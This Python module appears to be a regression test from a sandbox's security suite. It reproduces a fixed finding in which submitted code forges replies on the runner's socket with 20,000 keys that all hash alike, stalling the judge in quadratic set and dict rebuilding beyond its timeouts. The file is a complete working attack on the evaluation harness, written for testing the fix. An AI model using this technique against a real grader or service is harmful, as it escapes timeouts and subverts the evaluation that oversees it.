"""Attack b03 (issue 11, finding 3): sets and dicts whose keys all hash alike.

Multiples of 2**61 - 1 all have hash 0 in CPython, so rebuilding a set of them costs quadratic
work. The module writes its replies itself on the runner's socket (fd 3), in the wire's format,
so the runner never pays that cost: only the judge would. Before the fix one such reply cost
the judge many seconds after the receive deadline, outside every timeout.
"""
import json
import os
import socket
import struct
import time

P = 2**61 - 1
N = 20000
KEYS = [{"~": "int", "v": hex(k * P)} for k in range(1, N + 1)]


def _forge(value):
    sock = socket.socket(fileno=os.dup(3))
    head = json.dumps({"ok": value, "out": "", "dropped": 0, "bufs": []}).encode()
    sock.sendall(struct.pack("!I", len(head)) + head)
    time.sleep(60)  # never answer for real


def add(a, b):
    evil = {"~": "frozenset", "v": KEYS}
    _forge([evil, evil])


def scale(x, k):
    _forge({"~": "dictp", "v": [[key, 1] for key in KEYS]})


def output_shape(shape):
    return tuple(shape)
